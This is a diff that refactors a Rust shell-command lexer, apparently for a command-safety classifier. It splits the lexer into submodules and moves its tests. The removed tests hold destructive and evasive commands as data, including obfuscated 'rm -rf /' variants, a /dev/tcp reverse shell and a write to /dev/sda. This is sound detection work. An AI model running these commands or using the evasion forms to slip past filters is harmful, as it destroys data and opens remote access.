@@ -21,22 +21,18 @@
 //! Work is linear in the input except for substitution bodies, which are re-read by the
 //! recursive classifier under its own depth and byte budget.
 
-/// Stands in a word for the output of a substitution whose value is unknown.
-pub(crate) const SUB_MARK: char = '\u{FFFC}';
+mod escape;
+mod scan;
+mod token;
 
-/// A `$` that was quoted or escaped (`'$x'`, `\\$x`): the classifier expands no variable at it
-/// and reads it back as `$` once the word is resolved.
-pub(crate) const LITERAL_DOLLAR: char = '\u{E003}';
+use escape::escape;
+pub(crate) use escape::unescape;
 
-/// `${name:-word}` (and `-`, `:=`, `=`, `:+`, `+`) is written `DEFAULT_OPEN name DEFAULT_SEP
-/// (`-` or `+`) word DEFAULT_CLOSE`: the classifier reads the variable's value when it knows
-/// it, the word otherwise (an unset variable is the usual reason to write a default) — except
-/// for variables a shell always sets (`HOME`, `PWD`…), whose default never applies.
-pub(crate) const DEFAULT_OPEN: char = '\u{E000}';
-/// See [`DEFAULT_OPEN`].
-pub(crate) const DEFAULT_SEP: char = '\u{E001}';
-/// See [`DEFAULT_OPEN`].
-pub(crate) const DEFAULT_CLOSE: char = '\u{E002}';
+use scan::{ends_word, is_blank};
+pub(crate) use token::{
+    Lexed, Op, Redir, RedirKind, Sub, SubKind, Token, Word, DEFAULT_CLOSE, DEFAULT_OPEN,
+    DEFAULT_SEP, LITERAL_DOLLAR, SUB_MARK,
+};
 
 /// The default word of a `${name…}` operator (`:-w`, `-w`, `:=w`, `=w`, `:+w`, `+w`) after
 /// quote removal, when it is plain text (no substitution; those are classified as such).
@@ -63,125 +59,8 @@ fn default_word(rest: &str, nesting: usize) -> Option<String> {
     ))
 }
 
-/// One shell word after quote removal.
-#[derive(Debug, Clone, Default, PartialEq, Eq)]
-pub(crate) struct Word {
-    /// The text after quote removal and expansion normalisation.
-    pub text: String,
-    /// Some part of the word was quoted or escaped (no word splitting, no reserved word).
-    pub quoted: bool,
-    /// Indices into [`Lexed::subs`] of the substitutions, in the order of their marks.
-    pub subs: Vec<usize>,
-    /// Byte offsets in `text` of unquoted `{`, `,` and `}` (brace expansion candidates).
-    pub braces: Vec<(usize, char)>,
-}
-
-/// Control operators.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub(crate) enum Op {
-    /// `;`, `;;`, newline.
-    Seq,
-    /// `&&`.
-    And,
-    /// `||`.
-    Or,
-    /// `|`, `|&`.
-    Pipe,
-    /// `&`.
-    Background,
-    /// `(`.
-    Open,
-    /// `)`.
-    Close,
-}
-
-/// Redirection operators.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub(crate) enum RedirKind {
-    /// `>`, `>|`, `&>`, `>& file`.
-    Out,
-    /// `>>`, `&>>`.
-    Append,
-    /// `<`.
-    In,
-    /// `<>`.
-    ReadWrite,
-    /// `>&N`, `<&N`.
-    Dup,
-    /// `<<`, `<<-`.
-    HereDoc,
-    /// `<<<`.
-    HereString,
-}
-
-/// One redirection with its target word (and heredoc body).
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub(crate) struct Redir {
-    pub kind: RedirKind,
-    pub target: Word,
-    pub body: Option<String>,
-}
-
-/// What a substitution was written as.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub(crate) enum SubKind {
-    /// `$(…)` or backticks.
-    Command,
-    /// `<(…)` or `>(…)`.
-    Process,
-}
-
-/// A substitution body, classified recursively.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub(crate) struct Sub {
-    pub kind: SubKind,
-    pub body: String,
-}
-
-/// One token.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub(crate) enum Token {
-    Word(Word),
-    Op(Op),
-    Redir(Redir),
-}
-
-/// A tokenized command line.
-#[derive(Debug, Clone, Default, PartialEq, Eq)]
-pub(crate) struct Lexed {
-    pub tokens: Vec<Token>,
-    /// For each token, the char offset just past it in the source.
-    pub ends: Vec<usize>,
-    pub subs: Vec<Sub>,
-    /// Expansions nested deeper than [`MAX_LEX_NESTING`] were not searched for substitutions.
-    pub overflow: bool,
-}
-
 /// Deepest `${…${…}}` / `$((…))` nesting searched for substitutions (the lexer recurses there).
 const MAX_LEX_NESTING: usize = 8;
-
-/// Interprets ANSI-C backslash escapes in `text` (as `echo -e`, `printf` and `$'…'` do).
-pub(crate) fn unescape(text: &str) -> String {
-    let mut lexer = Lexer {
-        s: text.chars().collect(),
-        i: 0,
-        out: Lexed::default(),
-        pending: Vec::new(),
-        nesting: 0,
-    };
-    let mut out = String::with_capacity(text.len());
-    while let Some(c) = lexer.peek(0) {
-        lexer.i += 1;
-        if c == '\\' {
-            if let Some(d) = lexer.escape() {
-                out.push(d);
-            }
-        } else {
-            out.push(c);
-        }
-    }
-    out
-}
 
 /// Tokenizes `src`. Never fails, never panics.
 pub(crate) fn lex(src: &str) -> Lexed {
@@ -270,14 +149,6 @@ impl WordBuf {
             && self.word.text.len() <= 4
             && self.word.text.bytes().all(|b| b.is_ascii_digit())
     }
-}
-
-fn is_blank(c: char) -> bool {
-    matches!(c, ' ' | '\t' | '\r')
-}
-
-fn ends_word(c: char) -> bool {
-    is_blank(c) || matches!(c, '\n' | ';' | '&' | '|' | '(' | ')' | '<' | '>')
 }
 
 impl Lexer {
@@ -472,7 +343,7 @@ impl Lexer {
             Some('(') if self.peek(2) == Some('(') => {
                 // Arithmetic `$((…))`: kept as text; substitutions inside still run.
                 let start = self.i;
-                let end = self.matching_paren(self.i + 1).unwrap_or(self.s.len());
+                let end = scan::matching_paren(&self.s, self.i + 1).unwrap_or(self.s.len());
                 let text = self.slice(start, end + 1);
                 // The expression between `$((` and `))`.
                 let expr = self.slice(start + 3, end.saturating_sub(1));
@@ -488,7 +359,7 @@ impl Lexer {
             }
             Some('{') => {
                 let start = self.i + 2;
-                let end = self.closing_brace(start);
+                let end = scan::closing_brace(&self.s, start);
                 let inner = self.slice(start, end);
                 self.i = end + 1;
                 // `${x:-$(rm -rf /)}`: a default value's substitutions run.
@@ -523,31 +394,6 @@ impl Lexer {
                 Piece::Continue
             }
         }
-    }
-
-    /// Index of the `}` closing a `${` whose text starts at `start` (nested `${…}` and `$(…)`
-    /// skipped), or the end of input.
-    fn closing_brace(&self, start: usize) -> usize {
-        let mut depth = 1usize;
-        let mut j = start;
-        while let Some(&c) = self.s.get(j) {
-            match c {
-                '\\' => j += 1,
-                '$' if self.s.get(j + 1) == Some(&'(') => {
-                    j = self.matching_paren(j + 1).unwrap_or(self.s.len());
-                }
-                '{' => depth += 1,
-                '}' => {
-                    depth -= 1;
-                    if depth == 0 {
-                        return j;
-                    }
-                }
-                _ => {}
-            }
-            j += 1;
-        }
-        self.s.len()
     }
 
     /// Registers the substitutions inside expansion text (a `${…}` operand, `$((…))`) so they
@@ -624,7 +470,7 @@ impl Lexer {
             match c {
                 '\'' => return,
                 '\\' => {
-                    if let Some(d) = self.escape() {
+                    if let Some(d) = escape(&self.s, &mut self.i) {
                         cur.push_literal(d);
                     }
                 }
@@ -633,62 +479,10 @@ impl Lexer {
         }
     }
 
-    /// After a backslash in ANSI-C text: the escaped char (a lone trailing backslash reads as
-    /// itself).
-    fn escape(&mut self) -> Option<char> {
-        let Some(e) = self.peek(0) else {
-            return Some('\\');
-        };
-        self.i += 1;
-        match e {
-            'n' => Some('\n'),
-            't' => Some('\t'),
-            'r' => Some('\r'),
-            'a' => Some('\u{7}'),
-            'b' => Some('\u{8}'),
-            'e' | 'E' => Some('\u{1b}'),
-            'f' => Some('\u{c}'),
-            'v' => Some('\u{b}'),
-            'x' => self.radix_char(16, 2),
-            'u' => self.radix_char(16, 4),
-            'U' => self.radix_char(16, 8),
-            '0'..='7' => {
-                self.i -= 1;
-                self.radix_char(8, 3)
-            }
-            'c' => {
-                let ctl = self
-                    .peek(0)
-                    .and_then(|c| char::from_u32(u32::from(c) & 0x1f));
-                self.i += 1;
-                ctl
-            }
-            other => Some(other),
-        }
-    }
-
-    /// Up to `max` digits of `radix` at `self.i`, as a char.
-    fn radix_char(&mut self, radix: u32, max: usize) -> Option<char> {
-        let mut value: u32 = 0;
-        let mut n = 0;
-        while n < max {
-            let Some(d) = self.peek(0).and_then(|c| c.to_digit(radix)) else {
-                break;
-            };
-            value = value.saturating_mul(radix).saturating_add(d);
-            self.i += 1;
-            n += 1;
-        }
-        if n == 0 {
-            return None;
-        }
-        char::from_u32(value)
-    }
-
     /// At `(` of `$(`, `<(` or `>(`.
     fn command_sub(&mut self, cur: &mut WordBuf, kind: SubKind) {
         let open = self.i;
-        let end = self.matching_paren(open).unwrap_or(self.s.len());
+        let end = scan::matching_paren(&self.s, open).unwrap_or(self.s.len());
         let body = self.slice(open + 1, end);
         self.i = end + 1;
         self.push_sub(cur, kind, body);
@@ -719,106 +513,6 @@ impl Lexer {
             }
         }
         self.push_sub(cur, SubKind::Command, body);
-    }
-
-    /// Index of the `)` matching the `(` at `open`, skipping quotes, escapes, comments and
-    /// heredoc bodies (a `'` or `)` in a heredoc or a comment does not end the substitution,
-    /// as in bash). Linear in the text scanned.
-    fn matching_paren(&self, open: usize) -> Option<usize> {
-        let mut depth = 0usize;
-        let mut j = open;
-        let mut word_start = true;
-        // Delimiters of heredocs whose bodies start after the next newline.
-        let mut heredocs: Vec<(String, bool)> = Vec::new();
-        while let Some(&c) = self.s.get(j) {
-            let mut next_word_start = false;
-            match c {
-                '\\' => j += 1,
-                '\'' => {
-                    j += 1;
-                    while self.s.get(j).is_some_and(|&c| c != '\'') {
-                        j += 1;
-                    }
-                }
-                '"' => {
-                    j += 1;
-                    while let Some(&c) = self.s.get(j) {
-                        match c {
-                            '\\' => j += 1,
-                            '"' => break,
-                            _ => {}
-                        }
-                        j += 1;
-                    }
-                }
-                '#' if word_start => {
-                    while self.s.get(j + 1).is_some_and(|&c| c != '\n') {
-                        j += 1;
-                    }
-                }
-                '<' if self.s.get(j + 1) == Some(&'<') && self.s.get(j + 2) != Some(&'<') => {
-                    j += 2;
-                    let strip = self.s.get(j) == Some(&'-');
-                    if strip {
-                        j += 1;
-                    }
-                    while self.s.get(j).is_some_and(|&c| is_blank(c)) {
-                        j += 1;
-                    }
-                    let mut delim = String::new();
-                    while let Some(&d) = self.s.get(j) {
-                        if ends_word(d) {
-                            break;
-                        }
-                        if !matches!(d, '\'' | '"' | '\\') {
-                            delim.push(d);
-                        }
-                        j += 1;
-                    }
-                    heredocs.push((delim, strip));
-                    continue;
-                }
-                '\n' => {
-                    next_word_start = true;
-                    for (delim, strip) in std::mem::take(&mut heredocs) {
-                        // Skip body lines up to and including the delimiter line.
-                        loop {
-                            let start = j + 1;
-                            let mut end = start;
-                            while self.s.get(end).is_some_and(|&c| c != '\n') {
-                                end += 1;
-                            }
-                            let line: String =
-                                self.s.get(start..end).unwrap_or(&[]).iter().collect();
-                            j = end;
-                            let cmp = if strip {
-                                line.trim_start_matches('\t')
-                            } else {
-                                line.as_str()
-                            };
-                            if cmp == delim || end >= self.s.len() {
-                                break;
-                            }
-                        }
-                    }
-                }
-                '(' => {
-                    depth += 1;
-                    next_word_start = true;
-                }
-                ')' => {
-                    depth = depth.saturating_sub(1);
-                    if depth == 0 {
-                        return Some(j);
-                    }
-                }
-                ' ' | '\t' | ';' | '&' | '|' => next_word_start = true,
-                _ => {}
-            }
-            word_start = next_word_start;
-            j += 1;
-        }
-        None
     }
 
     /// At `<` or `>` (after an optional fd number or `&`).
@@ -954,105 +648,4 @@ impl Lexer {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    /// The words of `src` (operators as `<op>`), for one-line cases.
-    fn check(src: &str, expected: &[&str]) {
-        let lexed = lex(src);
-        let got: Vec<String> = lexed
-            .tokens
-            .iter()
-            .map(|t| match t {
-                Token::Word(w) => w.text.clone(),
-                Token::Op(op) => format!("<{op:?}>"),
-                Token::Redir(r) => format!("<{:?} {}>", r.kind, r.target.text),
-            })
-            .collect();
-        assert_eq!(got, expected, "{src:?}");
-    }
-
-    #[test]
-    fn quotes_and_escapes() {
-        check("r''m -rf /", &["rm", "-rf", "/"]);
-        check("r\"\"m -rf /", &["rm", "-rf", "/"]);
-        check("\\rm -rf /", &["rm", "-rf", "/"]);
-        check("$'\\x72\\x6d' -rf /", &["rm", "-rf", "/"]);
-        check("$'\\162m' x", &["rm", "x"]);
-        check("'a b' \"c $'d'\"", &["a b", "c $'d'"]);
-        check("echo \"a\\\"b\"", &["echo", "a\"b"]);
-        check("a\\\nb", &["ab"]);
-    }
-
-    #[test]
-    fn ifs_and_parameters() {
-        check("rm${IFS}-rf${IFS}/", &["rm", "-rf", "/"]);
-        check("rm$IFS-rf$IFS/", &["rm", "-rf", "/"]);
-        check("\"a${IFS}b\"", &["a b"]);
-        check("rm -rf ${HOME}", &["rm", "-rf", "$HOME"]);
-        check("cd ${PATH:0:1}", &["cd", "/"]);
-        check("${p}m ${HOME}/x", &["${p}m", "$HOME/x"]);
-        check("echo $1 $@", &["echo", "$1", "$@"]);
-    }
-
-    #[test]
-    fn operators_and_redirections() {
-        check(
-            "a;b&&c||d|e&f",
-            &[
-                "a",
-                "<Seq>",
-                "b",
-                "<And>",
-                "c",
-                "<Or>",
-                "d",
-                "<Pipe>",
-                "e",
-                "<Background>",
-                "f",
-            ],
-        );
-        check("x > /dev/sda 2>&1", &["x", "<Out /dev/sda>", "<Dup 1>"]);
-        check("x &>> log", &["x", "<Append log>"]);
-        check(
-            "bash -i >& /dev/tcp/h/1 0>&1",
-            &["bash", "-i", "<Out /dev/tcp/h/1>", "<Dup 1>"],
-        );
-        check("(a) # comment", &["<Open>", "a", "<Close>"]);
-    }
-
-    #[test]
-    fn substitutions_and_heredocs() {
-        let lexed = lex("echo $(rm -rf /) `id` <(curl x)");
-        let bodies: Vec<&str> = lexed.subs.iter().map(|s| s.body.as_str()).collect();
-        assert_eq!(bodies, ["rm -rf /", "id", "curl x"]);
-        let lexed = lex("cat <<'EOF' > f\nhello $x\nEOF\necho done");
-        let body = lexed.tokens.iter().find_map(|t| match t {
-            Token::Redir(r) => r.body.clone(),
-            _ => None,
-        });
-        assert_eq!(body.as_deref(), Some("hello $x\n"));
-        assert!(matches!(lexed.tokens.last(), Some(Token::Word(w)) if w.text == "done"));
-    }
-
-    #[test]
-    fn substitution_ends_where_bash_ends_it() {
-        // A quote or paren inside a heredoc or a comment does not end (or hide the end of)
-        // the substitution.
-        let lexed = lex("git commit -m \"$(cat <<'EOF'\nit's (partly) done\nEOF\n)\"; rm -rf /");
-        assert_eq!(lexed.subs.len(), 1);
-        assert!(matches!(lexed.tokens.last(), Some(Token::Word(w)) if w.text == "/"));
-        let lexed = lex("echo $(echo a # it's )\n); rm -rf /");
-        assert!(matches!(lexed.tokens.last(), Some(Token::Word(w)) if w.text == "/"));
-    }
-
-    #[test]
-    fn unterminated_input_never_panics() {
-        for src in [
-            "'", "\"", "$(", "`", "${", "$'\\", "$'\\x", "<<", "a <<E\n", "\\", "$((1",
-        ] {
-            let _ = lex(src);
-        }
-    }
-}
+mod tests;
